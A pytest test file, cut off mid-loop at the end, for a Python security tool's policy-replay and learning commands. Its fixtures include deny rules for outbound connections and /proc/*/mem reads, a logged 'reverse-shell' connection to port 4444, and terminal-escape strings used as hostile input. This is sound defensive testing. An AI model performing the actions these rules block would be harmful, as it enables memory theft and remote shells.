"""Learning and replay (issue 21 item 5): `vigil policy replay`, `vigil
policy learn` and `vigil trust learn`, and the administrator's procedure
they serve (docs/operation.md, "From audit to enforce"): run in audit mode
under a watch-only copy of the policy, learn, review, enforce."""
import hashlib
import json
import os
import re
import socketserver
import subprocess
import threading
import tomllib
from pathlib import Path

import pytest

from conftest import STOCK_PYTHON, STOCK_VERSION, VIGIL, VIGIL_PYTHON, alerts, read_records

STDLIB = "/usr/lib/python%d.%d" % STOCK_VERSION

# A small application: its own modules, code it generates, an outbound
# connection, and a child interpreter.
APP = {
    "main.py": '''\
import socket
import subprocess
import sys
from pathlib import Path

import gen
import helpers


def main():
    port = int(sys.argv[1])
    triple = gen.make("triple", 3)
    print("triple", triple(14))
    print(helpers.greeting("vigil"))
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(b"ping\\n")
        print("server said", connection.makefile().readline().strip())
    child = subprocess.run([sys.executable, str(Path(__file__).with_name("child.py"))],
                           capture_output=True, text=True)
    print("child said", child.stdout.strip(), child.returncode)
    return 0


sys.exit(main())
''',
    "helpers.py": 'def greeting(name):\n    return "hello, " + name\n',
    # Code generated from a template the module holds, as template engines
    # and ORMs do.
    "gen.py": '''\
TEMPLATE = "def {name}(x):\\n    return x * {factor}\\n"


def make(name, factor):
    namespace = {}
    source = TEMPLATE.format(name=name, factor=int(factor))
    exec(compile(source, "<generated %s>" % name, "exec"), namespace)
    return namespace[name]
''',
    "child.py": 'import helpers\nprint(helpers.greeting("child"))\n',
}

OUTBOUND = '''
[[rule]]
id = "outbound"
event = "socket.connect"
args.address = { cidr = ["0.0.0.0/0", "::/0"] }
action = "deny"
severity = "medium"
message = "outbound connections are not allowed"
'''

LEARNED_MARK = "# ---- Learned rules"
# What strict's [entry] refuses of Python's own start-up in every run
# (.pth files, sitecustomize, PYTHON* variables); Python goes on.
STARTUP_RESTRICTIONS = {"entry.pth_files", "entry.sitecustomize", "entry.usercustomize", "entry.environment"}


def denials(records):
    """The rules that refused something of the application."""
    return [a["rule"] for a in alerts(records)
            if a.get("action") in ("deny", "kill") and a.get("enforced") and a["rule"] not in STARTUP_RESTRICTIONS]


class PongHandler(socketserver.StreamRequestHandler):
    def handle(self):
        if self.rfile.readline():
            self.wfile.write(b"pong\n")


@pytest.fixture
def server():
    """A local TCP server answering pong; yields its port."""
    servers = []

    def start():
        instance = socketserver.ThreadingTCPServer(("127.0.0.1", 0), PongHandler)
        instance.daemon_threads = True
        threading.Thread(target=instance.serve_forever, daemon=True).start()
        servers.append(instance)
        return instance.server_address[1]

    yield start
    for instance in servers:
        instance.shutdown()
        instance.server_close()


def write_app(directory):
    directory.mkdir()
    for name, text in APP.items():
        (directory / name).write_text(text)
    return directory


def policies(tmp_path, host_strict, extra=""):
    """The policy to enforce (strict over the host's trust, plus `extra`)
    and its watch-only copy: the same rules in audit mode."""
    text = Path(host_strict.path).read_text() + extra
    assert 'mode = "enforce"' in text
    base = tmp_path / "base.toml"
    base.write_text(text)
    watch = tmp_path / "watch.toml"
    watch.write_text(text.replace('mode = "enforce"', 'mode = "audit"', 1))
    return base, watch


def run_app(app, policy, log, port, stock=False):
    env = dict(os.environ)
    env.pop("PYTHONPATH", None)
    env.update(VIGIL_POLICY=str(policy), VIGIL_LOG=str(log))
    # The application's directory holds what was deployed, no bytecode
    # python3 would leave beside it.
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    interpreter = STOCK_PYTHON if stock else VIGIL_PYTHON
    return subprocess.run([interpreter, str(app / "main.py"), str(port)], capture_output=True, text=True,
                          env=env, cwd=app, timeout=120)


def vigil(*args):
    return subprocess.run([VIGIL, *map(str, args)], capture_output=True, text=True, timeout=120)


def learned_rules(text):
    """The learned rules that are not commented out, as TOML reads them."""
    return [rule for rule in tomllib.loads(text).get("rule", []) if rule["id"].startswith("learned-")]


def trust_entries(text):
    """The active entries of a trust file: {path: (size, sha256)}."""
    entries = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            fields = line.split(" ")
            if fields[-1].startswith("stat="):
                fields.pop()
            entries[" ".join(fields[:-2])] = (int(fields[-2]), fields[-1])
    return entries


def learn(tmp_path, host_strict, base, log):
    """What an administrator runs after the audit run: the trust entries
    into the drop-in trust file the policy reads, the rules into a
    proposal."""
    trust = vigil("trust", "learn", "-o", host_strict.database, log)
    assert trust.returncode == 0, trust.stderr
    proposal = tmp_path / "learned.toml"
    learned = vigil("policy", "learn", "--base", base, "-o", proposal, log)
    assert learned.returncode == 0, learned.stderr
    return Path(host_strict.database).read_text(), proposal


def review_trust(trust_text, app):
    """The application's own files, with the bytes they have; beside them
    only the host's own .pth files that site read (a host outside the
    trust database may have some in /usr/local), which strict's
    `pth_files = false` refuses whatever their trust."""
    entries = trust_entries(trust_text)
    expected = {str(app / name): (len(APP[name].encode()), hashlib.sha256(APP[name].encode()).hexdigest())
                for name in APP}
    assert {path: entries[path] for path in expected if path in entries} == expected
    others = set(entries) - set(expected)
    assert all(path.endswith(".pth") and not path.startswith(str(app.parent)) for path in others), others


def test_learn_review_enforce_trust_and_generators(tmp_path, host_strict, server):
    """Learn → review → enforce on strict: the application's files get trust
    entries pinned to their bytes, its template module becomes a generator,
    no rule is needed; enforced, the same run succeeds with no denial, and a
    changed module is refused."""
    app = write_app(tmp_path / "app")
    base, watch = policies(tmp_path, host_strict)
    port = server()
    stock = run_app(app, watch, tmp_path / "stock.jsonl", port, stock=True)
    assert stock.returncode == 0, stock.stderr

    audit_log = tmp_path / "audit.jsonl"
    audited = run_app(app, watch, audit_log, port)
    assert (audited.returncode, audited.stdout) == (stock.returncode, stock.stdout), audited.stderr
    audit_alerts = {a["rule"] for a in alerts(read_records(audit_log))}
    assert {"trust.code", "trust.provenance"} <= audit_alerts

    # Before learning, replaying the enforced policy over the audit run
    # names what it would deny, and why.
    before = vigil("policy", "replay", "--policy", base, "--json", audit_log)
    assert before.returncode == 1, before.stderr
    report = json.loads(before.stdout)
    denied = {(d["rule"], d["detail"].split(":")[0]) for d in report["denials"]}
    for name in APP:
        assert ("trust.code", str(app / name)) in denied
    assert any(d["rule"] == "trust.provenance" and str(app / "gen.py") in d["detail"] for d in report["denials"])

    trust_text, proposal = learn(tmp_path, host_strict, base, audit_log)
    review_trust(trust_text, app)
    text = proposal.read_text()
    assert learned_rules(text) == []
    assert str(app / "gen.py") in tomllib.loads(text)["trust"]["generators"]
    assert not re.search(r"^[^#\n]*!!!", text, re.M)
    check = vigil("policy", "check", proposal)
    assert check.returncode == 0, check.stdout + check.stderr

    # The learned policy over the same run: nothing left to deny.
    after = vigil("policy", "replay", "--policy", proposal, audit_log)
    assert after.returncode == 0, after.stdout + after.stderr
    assert "summary: nothing would be denied" in after.stdout

    enforce_log = tmp_path / "enforce.jsonl"
    enforced = run_app(app, proposal, enforce_log, port)
    assert (enforced.returncode, enforced.stdout) == (stock.returncode, stock.stdout), enforced.stderr
    assert denials(read_records(enforce_log)) == []

    # A changed module is not what was learned: refused.
    (app / "helpers.py").write_text(APP["helpers.py"] + "import os\n")
    changed_log = tmp_path / "changed.jsonl"
    changed = run_app(app, proposal, changed_log, port)
    assert changed.returncode != 0
    refused = [a for a in alerts(read_records(changed_log), "trust.code") if a["enforced"]]
    assert refused and str(app / "helpers.py") in refused[0]["message"]


def test_learn_review_enforce_with_an_outbound_rule(tmp_path, host_strict, server):
    """The same procedure over strict with a rule that denies outbound
    connections: the learned allow rule carves out exactly the one address
    and port the application used, from its own file; a new connection
    target is denied. Needs allow rules (`action = "allow"`, `overrides`)
    in the policy loader."""
    app = write_app(tmp_path / "app")
    base, watch = policies(tmp_path, host_strict, OUTBOUND)
    port = server()
    audit_log = tmp_path / "audit.jsonl"
    audited = run_app(app, watch, audit_log, port)
    assert audited.returncode == 0, audited.stderr
    assert any(a["rule"] == "outbound" and not a["enforced"] for a in alerts(read_records(audit_log)))

    trust_text, proposal = learn(tmp_path, host_strict, base, audit_log)
    review_trust(trust_text, app)
    text = proposal.read_text()
    rules = learned_rules(text)
    # socket.create_connection makes the connection: the call site is the
    # standard library's socket.py, and the script narrows it to this
    # program.
    assert rules == [{
        "id": "learned-1",
        "event": "socket.connect",
        "action": "allow",
        "overrides": ["outbound"],
        "args": {"address": {"cidr": "127.0.0.1/32", "port": port}},
        "site": {"file": f"{STDLIB}/socket.py"},
        "process": {"script": str(app / "main.py")},
    }]
    assert re.search(r"^# 1 event, first \S+, last \S+; first at \S+audit\.jsonl:\d+ pid \d+ seq \d+$", text, re.M)

    check = vigil("policy", "check", proposal)
    assert check.returncode == 0, check.stdout + check.stderr
    after = vigil("policy", "replay", "--policy", proposal, audit_log)
    assert after.returncode == 0, after.stdout + after.stderr

    enforced = run_app(app, proposal, tmp_path / "enforce.jsonl", port)
    audited_again = run_app(app, watch, tmp_path / "audit-again.jsonl", port)
    assert (enforced.returncode, enforced.stdout) == (0, audited_again.stdout), enforced.stderr
    assert denials(read_records(tmp_path / "enforce.jsonl")) == []

    # A new connection target is not what was learned: denied.
    other = server()
    moved_log = tmp_path / "moved.jsonl"
    moved = run_app(app, proposal, moved_log, other)
    assert moved.returncode != 0
    assert "outbound connections are not allowed" in moved.stderr
    assert denials(read_records(moved_log)) == ["outbound"]


# Applications under strict with the host's trust database and what was
# learned from an audit run, added where docs/operation.md's procedure
# says: the trust entries into a drop-in trust file the policy reads,
# the rules and generators into the policy.

def audit_then_enforce(tmp_path, host_strict, workload):
    """Runs `workload(policy, log)` under the watch-only copy of strict,
    learns from its log, and runs it again under the learned policy.
    Returns (audit result, enforce result, enforce records, proposal text)."""
    base, watch = policies(tmp_path, host_strict)
    audit_log = tmp_path / "audit.jsonl"
    audited = workload(watch, audit_log)
    trust_text, proposal = learn(tmp_path, host_strict, base, audit_log)
    text = proposal.read_text()
    assert not re.search(r"^[^#\n]*!!!", text, re.M)
    enforce_log = tmp_path / "enforce.jsonl"
    enforced = workload(proposal, enforce_log)
    return audited, enforced, read_records(enforce_log), text


def environment(policy, log, **extra):
    env = dict(os.environ)
    env.pop("PYTHONPATH", None)
    if policy is not None:
        env.update(VIGIL_POLICY=str(policy), VIGIL_LOG=str(log))
    env.update(extra)
    return env


ADMIN_SCRIPT = '''\
"""Nightly host report, run from cron."""
import json
import pwd
import subprocess
import sys
import syslog
from pathlib import Path


def os_release():
    fields = {}
    for line in Path("/etc/os-release").read_text().splitlines():
        key, separator, value = line.partition("=")
        if separator:
            fields[key] = value.strip('"')
    return fields


def main(report_path):
    release = os_release()
    shells = sorted({entry.pw_shell for entry in pwd.getpwall()})
    kernel = subprocess.run(["uname", "-s"], capture_output=True, text=True, check=True).stdout.strip()
    header = subprocess.run(["df", "-P", "/"], capture_output=True, text=True, check=True).stdout.splitlines()[0]
    report = {"os": release.get("ID"), "version": release.get("VERSION_ID"), "kernel": kernel, "shells": shells,
              "df": header.split()[0], "hosts": len(Path("/etc/hosts").read_text().splitlines())}
    Path(report_path).write_text(json.dumps(report, indent=1, sort_keys=True) + "\\n")
    syslog.openlog("host-report", syslog.LOG_PID, syslog.LOG_DAEMON)
    syslog.syslog(syslog.LOG_INFO, "host report written to %s" % report_path)
    syslog.closelog()
    print("report", release.get("ID"), kernel, len(shells), "shells")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
'''


def test_a_cron_style_admin_script_runs_under_strict_as_under_python3(tmp_path, host_strict):
    script = tmp_path / "host-report.py"
    script.write_text(ADMIN_SCRIPT)

    def workload(policy, log, interpreter=VIGIL_PYTHON):
        report = tmp_path / ("report-%s.json" % Path(str(log)).stem)
        completed = subprocess.run([interpreter, str(script), str(report)], capture_output=True, text=True,
                                   env=environment(policy, log), cwd=tmp_path, timeout=120)
        return completed, report.read_text() if report.exists() else None

    stock, stock_report = workload(None, tmp_path / "stock.jsonl", STOCK_PYTHON)
    assert stock.returncode == 0, stock.stderr
    (audited, _), (enforced, enforced_report), records, text = audit_then_enforce(tmp_path, host_strict, workload)
    assert learned_rules(text) == []
    assert (enforced.returncode, enforced.stdout, enforced_report) == (0, stock.stdout, stock_report), \
        enforced.stderr
    assert denials(records) == []
    assert {"uname", "df"} <= {Path(e["args"]["executable"] or "").name
                               for e in records if e.get("event") == "subprocess.Popen"}


WHEEL_FILES = {
    "vigil_demo/__init__.py": 'def answer():\n    return 42\n',
    "vigil_demo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: vigil-demo\nVersion: 1.0\n",
    "vigil_demo-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}


def build_wheel(directory):
    """A pure-Python wheel, built the way the wheel format says."""
    import base64
    import zipfile

    def digest(data):
        return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()

    record = "".join(f"{name},{digest(text.encode())},{len(text.encode())}\n" for name, text in WHEEL_FILES.items())
    record += "vigil_demo-1.0.dist-info/RECORD,,\n"
    path = directory / "vigil_demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for name, text in WHEEL_FILES.items():
            wheel.writestr(name, text)
        wheel.writestr("vigil_demo-1.0.dist-info/RECORD", record)
    return path


def test_pip_installs_a_local_wheel_into_a_venv_under_strict_as_under_python3(tmp_path, host_strict):
    """`-m venv` with Debian's pip (--without-pip --system-site-packages:
    ensurepip runs pip with -c from a temporary copy of its wheels, which
    strict refuses); the venv's python installs a wheel with pip."""
    if not Path("/usr/lib/python3/dist-packages/pip").is_dir():
        pytest.skip("Debian's python3-pip is not installed here")
    wheel = build_wheel(tmp_path)

    def workload(policy, log, interpreter=VIGIL_PYTHON):
        venv = tmp_path / ("venv-stock" if interpreter == STOCK_PYTHON else "venv")
        subprocess.run(["rm", "-rf", str(venv)], check=True)
        env = environment(policy, log, PIP_NO_INDEX="1", PIP_DISABLE_PIP_VERSION_CHECK="1")
        steps = [[interpreter, "-m", "venv", "--without-pip", "--system-site-packages", str(venv)],
                 [str(venv / "bin" / "python"), "-m", "pip", "install", "--no-index", str(wheel)]]
        outputs = []
        for argv in steps:
            completed = subprocess.run(argv, capture_output=True, text=True, env=env, cwd=tmp_path, timeout=300)
            outputs.append((completed.returncode, completed.stdout.replace(str(venv), "VENV")))
            if completed.returncode != 0:
                return outputs, completed.stderr
        installed = venv / "lib" / ("python%d.%d" % STOCK_VERSION) / "site-packages" / "vigil_demo" / "__init__.py"
        outputs.append(installed.read_text())
        return outputs, ""

    stock, problem = workload(None, tmp_path / "stock.jsonl", STOCK_PYTHON)
    assert [status for status, _ in stock[:2]] == [0, 0], problem
    (audited, _), (enforced, problem), records, text = audit_then_enforce(tmp_path, host_strict, workload)
    assert enforced == stock, problem
    assert denials(records) == []
    # pip's own code is Debian's, trusted already; what it generates comes
    # from the built-in generators (attrs' classes) and, where pip's release
    # vendors six, a learned one beside them. Without one the proposal keeps
    # the base's default list.
    generators = tomllib.loads(text)["trust"].get("generators", ["builtin"])
    assert "builtin" in generators and all(str(g).endswith("/six.py") for g in generators if g != "builtin"), \
        generators
    # Where pip's release imports ctypes (sid's, through its vendored rich),
    # it does without it under strict (the denied import is an ImportError,
    # as the enforced run above shows); learning proposes allows of that
    # import only, for review.
    assert all(rule["overrides"] == ["ctypes"] for rule in learned_rules(text)), learned_rules(text)


def ansible_facts(output):
    """The fact names `ansible localhost -m setup` printed."""
    head, _, body = output.partition(" => ")
    assert head == "localhost | SUCCESS", output[:200]
    return set(json.loads(body)["ansible_facts"])


def test_ansible_setup_runs_under_strict_as_under_python3(tmp_path, host_strict):
    """The controller runs under vigil-python (`vigil-python
    /usr/bin/ansible`); modules run in the interpreter ansible is given,
    here the stock python3: AnsiballZ writes each module to a new
    temporary file that no learned trust entry can vouch for.
    Needs allow rules in the policy loader (ansible's controller imports
    ctypes, which strict denies) and the provenance of generated code for
    Cython's empty code objects."""
    if not Path("/usr/bin/ansible").exists():
        pytest.skip("Debian's ansible-core is not installed here")
    home = tmp_path / "home"
    home.mkdir()

    def workload(policy, log, interpreter=VIGIL_PYTHON):
        env = environment(policy, log, HOME=str(home), ANSIBLE_LOCAL_TEMP=str(home / "local"),
                          ANSIBLE_REMOTE_TMP=str(home / "remote"), ANSIBLE_NOCOLOR="1")
        return subprocess.run([interpreter, "/usr/bin/ansible", "localhost", "-m", "setup",
                               "-e", "ansible_python_interpreter=" + STOCK_PYTHON],
                              capture_output=True, text=True, env=env, cwd=tmp_path, timeout=300)

    stock = workload(None, tmp_path / "stock.jsonl", STOCK_PYTHON)
    assert stock.returncode == 0, stock.stderr
    # Ansible renders templates written in its own code and data with
    # Environment.from_string: the administrator's decision that
    # docs/operation.md describes, Jinja2 as a generator of any text, put
    # before the built-in list (which trusts Jinja2 for templates in
    # trusted files only).
    jinja = "/usr/lib/python3/dist-packages/jinja2/environment.py"
    policy = Path(host_strict.path)
    policy.write_text(policy.read_text().replace(
        'pyc = "verify"\n', f'pyc = "verify"\ngenerators = [{{ files = "{jinja}", input = "program" }}, "builtin"]\n', 1))
    audited, enforced, records, text = audit_then_enforce(tmp_path, host_strict, workload)
    assert enforced.returncode == 0, enforced.stderr
    assert ansible_facts(enforced.stdout) == ansible_facts(stock.stdout)
    assert denials(records) == []
    # What was learned is narrow: rules for ansible's own program only, and
    # the administrator's generators kept in their order.
    for rule in learned_rules(text):
        assert rule["process"] == {"script": "/usr/bin/ansible"}, rule
    # (A bare glob is a generator of the program's own values: learning
    # writes the list back so when it adds generators of its own.)
    generators = tomllib.loads(text)["trust"]["generators"]
    assert generators[0] in (jinja, {"files": jinja, "input": "program"}) and generators[1] == "builtin", generators


# Replay and learning over logs written by hand: each record as
# docs/records.md describes it, so what is judged is known exactly.

class HandLog:
    def __init__(self, path):
        self.path = path
        self.lines = []
        self.seq = {}

    def record(self, pid, kind, **members):
        key = json.dumps(pid)  # a hostile log's pid may be of any type
        self.seq[key] = self.seq.get(key, 0) + 1
        record = {"ts": "2026-11-26T10:00:%02d.000000Z" % (len(self.lines) % 60), "seq": self.seq[key],
                  "kind": kind, "pid": pid, "host": "test", **members}
        self.lines.append(json.dumps(record))
        self.path.write_text("\n".join(self.lines) + "\n")
        return len(self.lines), self.seq[key]

    def start(self, pid, uid=0, script="/srv/app/main.py", ppid=1, origin="exec"):
        return self.record(pid, "start", origin=origin, ppid=ppid, uid=uid,
                           entry={"mode": "file", "target": script, "inspect": False})

    def event(self, pid, event, args, site="/srv/app/main.py", **members):
        return self.record(pid, "event", event=event, tid=pid,
                           site={"file": site, "line": 1, "function": "f"} if site else None, args=args, **members)


def policy_file(tmp_path, rules, mode="enforce", trust=""):
    path = tmp_path / "policy.toml"
    path.write_text(f'version = 1\nname = "hand"\nmode = "{mode}"\n{trust}\n{rules}')
    return path


def replay(policy, *logs):
    completed = vigil("policy", "replay", "--policy", policy, "--json", *logs)
    assert completed.returncode in (0, 1), completed.stderr
    return completed.returncode, json.loads(completed.stdout)


CTYPES_FOR_USERS = '''
[[rule]]
id = "ctypes-for-users"
event = "import"
args.module = "ctypes"
process.uid = { ge = 1000 }
action = "deny"
message = "no ctypes for users"
'''


def test_replay_judges_each_event_with_its_process_facts(tmp_path):
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100, uid=1000)
    log.start(200, uid=0)
    user_line, user_seq = log.event(100, "import", {"module": "ctypes", "filename": None})
    log.event(200, "import", {"module": "ctypes", "filename": None})
    log.event(100, "import", {"module": "json", "filename": None})
    status, report = replay(policy_file(tmp_path, CTYPES_FOR_USERS), log.path)
    assert status == 1
    [denial] = report["denials"]
    assert (denial["rule"], denial["message"], denial["event"], denial["subject"], denial["count"]) == \
        ("ctypes-for-users", "no ctypes for users", "import", "ctypes", 1)
    assert denial["records"] == [{"log": str(log.path), "line": user_line, "pid": 100, "seq": user_seq,
                                  "ts": denial["records"][0]["ts"]}]
    assert report["summary"]["denied_events"] == 1
    assert (report["records"], report["events"], report["processes"]) == (5, 3, 2)

    text = vigil("policy", "replay", "--policy", policy_file(tmp_path, CTYPES_FOR_USERS), log.path)
    assert f"{log.path}:{user_line} pid 100 seq {user_seq}" in text.stdout
    assert "summary: would deny 1 events by 1 rules in 1 processes" in text.stdout

    nothing = policy_file(tmp_path, CTYPES_FOR_USERS.replace("ge = 1000", "ge = 5000"))
    assert replay(nothing, log.path)[0] == 0


def test_replay_lists_what_it_cannot_judge(tmp_path):
    """Rules with history are not judged (a record's own decision naming
    them is taken as recorded), views are not judged, and events without
    their process's start are counted."""
    rules = CTYPES_FOR_USERS + '''
[[rule]]
id = "burst"
event = "os.listdir"
threshold = { count = 2, seconds = 60 }
action = "deny"

[[rule]]
id = "shells"
event = "vigil.process_start"
args.kind = "shell"
action = "deny"
'''
    log = HandLog(tmp_path / "run.jsonl")
    log.event(300, "import", {"module": "ctypes", "filename": None})  # no start record
    log.start(100)
    log.event(100, "os.listdir", {"path": "/"})
    line, seq = log.event(100, "os.listdir", {"path": "/"},
                          decision={"action": "deny", "enforced": False, "rules": ["burst"]})
    status, report = replay(policy_file(tmp_path, rules), log.path)
    assert status == 1
    gaps = report["not_judged"]
    assert set(gaps["rules_not_judged"]) == {"burst", "shells"}
    assert "threshold" in gaps["rules_not_judged"]["burst"]
    assert "views" in gaps["rules_not_judged"]["shells"]
    assert gaps["events_without_start"] == 1
    [denial] = report["denials"]
    assert (denial["rule"], denial["basis"], denial["records"][0]["line"]) == ("burst", "recorded", line)


def test_replay_checks_recorded_trust_against_the_policys_database(tmp_path):
    trusted = "a" * 64
    database = tmp_path / "app.trust"
    database.write_text(f"/srv/app/good.py 10 {trusted}\n")
    trust_table = f'[trust]\ndatabase = ["{database}"]\n'
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100)

    def code_open(path, sha256, by=None):
        return log.event(100, "open", {"path": path, "mode": "rb", "flags": 524288}, site="<frozen importlib._bootstrap_external>",
                         trust={"verdict": "untrusted" if by is None else "trusted", "path": path, "size": 10,
                                "sha256": sha256, "by": by})

    code_open("/srv/app/good.py", trusted)
    changed_line, _ = code_open("/srv/app/good.py", "b" * 64)
    code_open("/srv/app/marked.py", "c" * 64, by="xattr")
    status, report = replay(policy_file(tmp_path, "", trust=trust_table), log.path)
    assert status == 1
    [denial] = report["denials"]
    assert denial["rule"] == "trust.code"
    assert denial["detail"] == "/srv/app/good.py: no trust database entry vouches for its SHA-256"
    assert denial["records"][0]["line"] == changed_line
    assert report["not_judged"]["xattr_verdicts_reused"] == 1
    # Without the attribute among its sources, the policy would refuse it.
    status, report = replay(policy_file(tmp_path, "", trust=trust_table + 'sources = ["database"]\n'), log.path)
    assert {d["detail"].split(":")[0] for d in report["denials"]} == {"/srv/app/good.py", "/srv/app/marked.py"}


OUTBOUND_AND_MEMORY = OUTBOUND + '''
[[rule]]
id = "process-memory"
event = "open"
args.path = { glob = "/proc/*/mem" }
action = "deny"
severity = "critical"
message = "process memory may not be opened"
'''


def test_policy_learn_proposes_narrow_rules_and_comments_out_what_attacks_look_like(tmp_path):
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100)
    first_line, first_seq = log.event(100, "socket.connect", {"self": {"type": "socket.socket"},
                                                             "address": ["10.1.2.3", 443]},
                                      site="/srv/app/client.py")
    log.event(100, "socket.connect", {"self": {"type": "socket.socket"}, "address": ["10.1.2.3", 443]},
              site="/srv/app/client.py")
    log.event(100, "socket.connect", {"self": {"type": "socket.socket"}, "address": ["2001:db8::7", 8443, 0, 0]},
              site='/srv/app/odd "name"\\x.py')
    log.event(100, "open", {"path": "/proc/self/mem", "mode": "rb", "flags": 0}, site="/srv/app/debug.py")
    # A connection the run's own detection rules called critical (rules on
    # views, which replay cannot judge, are seen through their alerts).
    _, shell_seq = log.event(100, "socket.connect", {"self": {"type": "socket.socket"},
                                                     "address": ["10.9.9.9", 4444]}, site="/srv/app/debug.py")
    log.record(100, "alert", rule="reverse-shell", severity="critical", message="a shell with a socket for stdio",
               seq_ref=shell_seq, event="socket.connect", action="alert", enforced=False)
    base = policy_file(tmp_path, OUTBOUND_AND_MEMORY)
    proposal = tmp_path / "learned.toml"
    learned = vigil("policy", "learn", "--base", base, "-o", proposal, log.path)
    assert learned.returncode == 0, learned.stderr
    text = proposal.read_text()
    assert text.startswith("# Proposed by `vigil policy learn`")
    assert base.read_text() in text  # the base, whole, with the proposals after it
    assert learned_rules(text) == [
        {"id": "learned-1", "event": "socket.connect", "action": "allow", "overrides": ["outbound"],
         "args": {"address": {"cidr": "10.1.2.3/32", "port": 443}}, "site": {"file": "/srv/app/client.py"},
         "process": {"script": "/srv/app/main.py"}},
        {"id": "learned-2", "event": "socket.connect", "action": "allow", "overrides": ["outbound"],
         "args": {"address": {"cidr": "2001:db8::7/128", "port": 8443}}, "site": {"file": '/srv/app/odd "name"\\x.py'},
         "process": {"script": "/srv/app/main.py"}},
    ]
    assert re.search(r"^# 2 events, first \S+, last \S+; first at " + re.escape(f"{log.path}:{first_line} pid 100 seq {first_seq}") + "$",
                     text, re.M)
    # Opening process memory is what the attack-detection rules call
    # critical: proposed only commented out, under a loud warning.
    memory = text[text.index("# !!! CRITICAL"):]
    assert "the attack-detection rule process-memory (critical)" in memory
    assert '# args.path = "/proc/self/mem"' in memory
    assert "the attack-detection rule reverse-shell (critical, recorded): a shell with a socket for stdio" in memory
    assert '# args.address = { cidr = "10.9.9.9/32", port = 4444 }' in memory
    assert "learned-3" not in {rule["id"] for rule in tomllib.loads(text)["rule"]}


def test_trust_learn_pins_what_ran_and_flags_what_changed_since(tmp_path):
    same = tmp_path / "same.py"
    same.write_text("print('same')\n")
    changed = tmp_path / "changed.py"
    changed.write_text("print('before')\n")
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100)
    for path in (same, changed, same):
        data = path.read_bytes()
        log.event(100, "open", {"path": str(path), "mode": "rb", "flags": 524288}, site=None,
                  trust={"verdict": "untrusted", "path": str(path), "size": len(data),
                         "sha256": hashlib.sha256(data).hexdigest(), "by": None})
    changed.write_text("print('after')\n")
    out = tmp_path / "learned.trust"
    learned = vigil("trust", "learn", "-o", out, log.path)
    assert learned.returncode == 0, learned.stderr
    text = out.read_text()
    assert trust_entries(text) == {str(same): (len(b"print('same')\n"), hashlib.sha256(b"print('same')\n").hexdigest())}
    assert f"# NOT PROPOSED: {changed} has changed since it ran" in text
    assert re.search(r"^# 2 runs, first ", text, re.M)
    # The proposal is a trust file as it is.
    assert vigil("trust", "status", "--database", out, same).returncode == 0
    assert vigil("trust", "status", "--database", out, changed).returncode == 1


def test_policy_learn_adds_a_generator_to_the_bases_own_list(tmp_path):
    """Generated code refused from the call site of a code file the
    process read becomes a generator, not a rule; the base's own list,
    over several lines, is kept (commented out) and carried over."""
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100)
    log.event(100, "open", {"path": "/srv/app/gen.py", "mode": "rb", "flags": 524288}, site=None,
              trust={"verdict": "untrusted", "path": "/srv/app/gen.py", "size": 10, "sha256": "d" * 64, "by": None})
    log.event(100, "compile", {"source": "x = 1", "filename": "<generated>"}, site="/srv/app/gen.py",
              provenance={"verified": False, "origin": None},
              decision={"action": "deny", "enforced": False, "rules": ["trust.provenance"]})
    database = tmp_path / "app.trust"
    trust_table = (f'[trust]\ndatabase = ["{database}"]\ngenerators = [\n  "/usr/lib/python3.11/dataclasses.py",'
                   '  # the stdlib\'s\n  "/opt/tool/gen.py",\n]\n')
    base = policy_file(tmp_path, "", trust=trust_table)
    proposal = tmp_path / "learned.toml"
    learned = vigil("policy", "learn", "--base", base, "-o", proposal, log.path)
    assert learned.returncode == 0, learned.stderr
    policy = tomllib.loads(proposal.read_text())
    assert policy["trust"]["generators"] == ["/usr/lib/python3.11/dataclasses.py", "/opt/tool/gen.py",
                                             "/srv/app/gen.py"]
    assert policy["trust"]["database"] == [str(database)]
    assert learned_rules(proposal.read_text()) == []
    assert "# replaced by vigil policy learn:   \"/opt/tool/gen.py\"," in proposal.read_text()
    assert vigil("policy", "check", proposal).returncode == 0
    # The same run replayed under the proposal: a generator counts only
    # when its file is verified, so both are denied until the file is
    # trusted (vigil trust learn's part), and nothing is after.
    replayed = vigil("policy", "replay", "--policy", proposal, log.path).stdout
    assert "deny by trust.code" in replayed and "deny by trust.provenance" in replayed
    database.write_text("/srv/app/gen.py 10 " + "d" * 64 + "\n")
    replayed = vigil("policy", "replay", "--policy", proposal, log.path)
    assert replayed.returncode == 0, replayed.stdout

    # A [trust] table written with dotted keys has no header to add under:
    # the generators are proposed in a comment, and said so.
    dotted = tmp_path / "dotted.toml"
    dotted.write_text(f'version = 1\nname = "dotted"\nmode = "enforce"\ntrust.database = ["{database}"]\n')
    learned = vigil("policy", "learn", "--base", dotted, "-o", proposal, log.path)
    assert learned.returncode == 0 and "to set by hand" in learned.stderr
    assert "generators" not in tomllib.loads(proposal.read_text())["trust"]
    assert '# generators = ["builtin", "/srv/app/gen.py"]' in proposal.read_text()


LEARNING_COMMANDS = [["policy", "replay", "--policy", "POLICY"], ["policy", "learn", "--base", "POLICY", "-o", "OUT"],
                     ["trust", "learn", "-o", "OUT"]]


def learning_command(tmp_path, command):
    policy = policy_file(tmp_path, CTYPES_FOR_USERS, trust='[trust]\ndatabase = []\n')
    return [str(policy) if word == "POLICY" else str(tmp_path / "out") if word == "OUT" else word
            for word in command]


@pytest.mark.parametrize("command", LEARNING_COMMANDS)
def test_learning_commands_survive_hostile_records(tmp_path, command):
    """Members of any type, arguments nested deep, text that would drive a
    terminal: judged or skipped, never a crash, never printed raw."""
    hostile = "\x1b]0;owned\x07\x1b[2J\u009b31m\u202e"
    log = HandLog(tmp_path / "hostile.jsonl")
    log.start(100, uid=1000, script=hostile)
    for value in ("7", [1], {"a": 1}, 1.5, True, None, -3, hostile):
